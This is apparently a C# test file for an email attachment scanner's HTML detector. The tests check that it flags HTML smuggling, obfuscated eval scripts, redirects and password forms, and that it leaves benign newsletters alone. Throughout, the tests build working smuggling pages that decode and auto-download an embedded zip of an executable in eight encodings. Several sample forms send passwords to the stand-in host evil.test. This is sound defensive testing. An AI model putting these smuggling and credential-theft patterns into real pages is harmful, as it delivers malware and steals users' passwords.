using System.Text;
using Sekisho.Inspection.Detection.Carriers;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Carriers;

public class PageScriptTests
{
    [Fact]
    public void Smuggling_IsFoundAndTheFileOpened()
    {
        var data = Convert.ToBase64String(ZipWriter.Plain(("a.exe", Samples.Program()))).Insert(40, "\" + \"");
        using var message = Letters.OpenDocument("a.html", Encoding.ASCII.GetBytes($"<html><script>var d=\"{data}\";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.click()</script></html>"));

        Assert.Contains("HTML_SMUGGLING", Letters.Ask(new PageScript(), message).Select(f => f.Kind.Code));
        Assert.Contains(message.Parts, p => p.Name == "a.exe");
    }

    [Fact]
    public void SavedDataUrl_IsSmuggling() => Assert.Equal(["HTML_SMUGGLING"], Letters.Codes(new PageScript(), "a.html",
        Encoding.ASCII.GetBytes($"<html><a download='x.exe' href='data:application/octet-stream;base64,{Convert.ToBase64String(Samples.Program())}'>open</a></html>")));

    [Fact]
    public void PasswordForm_WeighsMoreInAnAttachment()
    {
        var page = "<html><form action=\"https://evil.test/p\"><input type=password></form></html>"u8.ToArray();

        Assert.Equal([("HTML_PASSWORD_FORM", "sent to https://evil.test/p"), ("HTML_PASSWORD_SENT", "sent to https://evil.test/p")], Letters.Ask(new PageScript(), "login.htm", page).Select(f => (f.Kind.Code, f.Evidence)));
        using var body = Letters.Text("From: a@b.test\nContent-Type: text/html\n\n" + Encoding.ASCII.GetString(page));
        Assert.Equal(["HTML_BODY_PASSWORD_FORM"], Letters.Ask(new PageScript(), body).Select(f => f.Kind.Code));
    }

    [Theory]
    [InlineData("<form><input type=password></form>", false)]
    [InlineData("<form action='/login'><input type=password></form>", false)]
    [InlineData("<form action='mailto:a@evil.test'><input type=password></form>", true)]
    [InlineData("<form><input type=password></form><script>var x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/p');</script>", true)]
    [InlineData("<script>fetch('https://news.test/p')</script>", false)]
    public void SentPassword_IsFound(string page, bool isSent) =>
        Assert.Equal(isSent, Letters.Codes(new PageScript(), "a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>")).Contains("HTML_PASSWORD_SENT"));

    [Theory]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.test/\">", true)]
    [InlineData("<meta http-equiv=refresh content=\"url=https://evil.test/\">", true)]
    [InlineData("<meta http-equiv=refresh content=\"60;url=https://evil.test/\">", false)]
    [InlineData("<meta http-equiv=refresh content=\"0;url=next.html\">", false)]
    [InlineData("<script>window.location.replace('https://evil.test/')</script>", true)]
    [InlineData("<script>function go() { location.href='https://evil.test/'; }</script>", false)]
    [InlineData("<button onclick=\"location.href='https://evil.test/'\">x</button>", false)]
    public void PageThatLeadsOn_IsFound(string page, bool isFound)
    {
        Assert.Equal(isFound, Letters.Codes(new PageScript(), "a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>")).Contains("HTML_REDIRECT"));
        using var body = Letters.Text($"From: a@b.test\nContent-Type: text/html\n\n<html><body>{page}</body></html>");
        Assert.DoesNotContain(Letters.Ask(new PageScript(), body), f => f.Kind.Code == "HTML_REDIRECT");
    }

    [Fact]
    public void UnreadableScript_IsFound() => Assert.Contains("HTML_OBFUSCATED_SCRIPT", Letters.Codes(new PageScript(), "a.html",
        Encoding.ASCII.GetBytes("<html><script>eval(unescape('" + string.Concat(Enumerable.Repeat("%61%6c%65", 200)) + "'))</script></html>")));

    [Theory]
    [InlineData("hex")]
    [InlineData("list")]
    [InlineData("template")]
    [InlineData("text")]
    [InlineData("attribute")]
    [InlineData("json")]
    [InlineData("eval")]
    [InlineData("escapes")]
    public void File_IsPutTogetherHoweverItIsWritten(string way)
    {
        var archive = ZipWriter.Plain(("a.exe", Samples.Program()));
        var data = Convert.ToBase64String(archive);
        const string Save = "l.href=URL.createObjectURL(new Blob([u]));l.download='a.zip';l.click();";
        static string From(string text) => $"var u=Uint8Array.from(atob({text}),c=>c.charCodeAt(0));{Save}";
        var pieces = data.Chunk(60).Select(c => new string(c));
        var page = way switch
        {
            "hex" => $"<script>var u=new Uint8Array([{string.Join(", ", archive.Select(b => $"0x{b:x}"))}]);{Save}</script>",
            "list" => $"<script>{From($"['{string.Join("', '", pieces)}'].join('')")}</script>",
            "template" => $"<script>{From($"`{string.Join("` + `", pieces)}`")}</script>",
            "text" => $"<textarea id=d hidden>{Convert.ToBase64String(archive, Base64FormattingOptions.InsertLineBreaks)}</textarea><script>{From("d.value")}</script>",
            "attribute" => $"<p id=d data-x=\"{data}\"></p><script>{From("d.dataset.x")}</script>",
            "json" => $"<script id=d type='text/template'>{data}</script><script>{From("d.text")}</script>",
            "eval" => $"<script>eval(atob('{Convert.ToBase64String(Encoding.ASCII.GetBytes(From($"'{data}'")))}'))</script>",
            _ => $"<script>{From($"'{string.Concat(data.Select(c => $"\\x{(int)c:x2}"))}'")}</script>",
        };
        using var message = Letters.OpenDocument("a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>"));

        Assert.Contains("HTML_SMUGGLING", Letters.Ask(new PageScript(), message).Select(f => f.Kind.Code));
        Assert.Contains(message.Parts, p => p.Name == "a.exe");
    }

    [Theory]
    [InlineData("<img src=x onerror=\"eval(atob('bG9jYXRpb249MQ=='))\">", true)]
    [InlineData("<a href=\"javascript:eval(atob('YQ=='))\">x</a>", true)]
    [InlineData("<body onload='new Function ( atob(d) )()'>", true)]
    [InlineData("<script>var b=[];for(;;)b.push(parseInt(d.substr(i,2),16));navigator.msSaveBlob(new Blob([b]),'a.zip')</script>", true)]
    [InlineData("<a href=\"javascript:void(0)\">x</a>", false)]
    [InlineData("<script>var n=parseInt(prompt('n'));var t=atob(x);</script>", false)]
    [InlineData("<script>document.write(unescape('%3Cscript src=\"https://news.test/a.js\"%3E%3C/script%3E'))</script>", false)]
    [InlineData("<script>var u=URL.createObjectURL(new Blob([table.innerText]));a.download='table.csv';a.href=u;</script>", false)]
    public void ScriptThatDecodesWhatItRunsOrSaves_IsFound(string page, bool isFound) =>
        Assert.Equal(isFound, Letters.Codes(new PageScript(), "a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>")).Contains("HTML_SCRIPT_DECODES"));

    [Fact]
    public void Library_ThatCanDoBoth_IsNot() => Assert.DoesNotContain("HTML_SCRIPT_DECODES", Letters.Codes(new PageScript(), "a.html",
        Encoding.ASCII.GetBytes("<html><script>" + string.Concat(Enumerable.Repeat("function f(a){return a+1;}\n", 1000)) + "function s(b){return URL.createObjectURL(b)}var n=parseInt('1')</script></html>")));

    [Fact]
    public void DataWithoutScript_IsLetBe()
    {
        using var message = Letters.OpenDocument("a.html", Encoding.ASCII.GetBytes($"<html><body><pre>{Convert.ToBase64String(ZipWriter.Plain(("a.exe", Samples.Program())))}</pre></body></html>"));

        Assert.Single(message.Parts);
    }

    [Fact]
    public void PictureWithScript_IsFound() => Assert.Equal(["SVG_SCRIPT"], Letters.Codes(new PageScript(), "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"go()\"><path/></svg>"u8.ToArray()));

    [Fact]
    public void Newsletter_IsNot() => Assert.Empty(Letters.Codes(new PageScript(), "a.html",
        Encoding.UTF8.GetBytes("<html><head><style>a{}</style><script type=\"application/ld+json\">{\"@type\":\"Event\"}</script></head><body><div style=\"display:none\">今週のお知らせ"
            + string.Concat(Enumerable.Repeat("&zwnj;&nbsp;", 300)) + "</div><a href=\"https://news.test/1\">続きを読む</a><img src=\"data:image/png;base64,iVBORw0KGgo=\"></body></html>")));
}
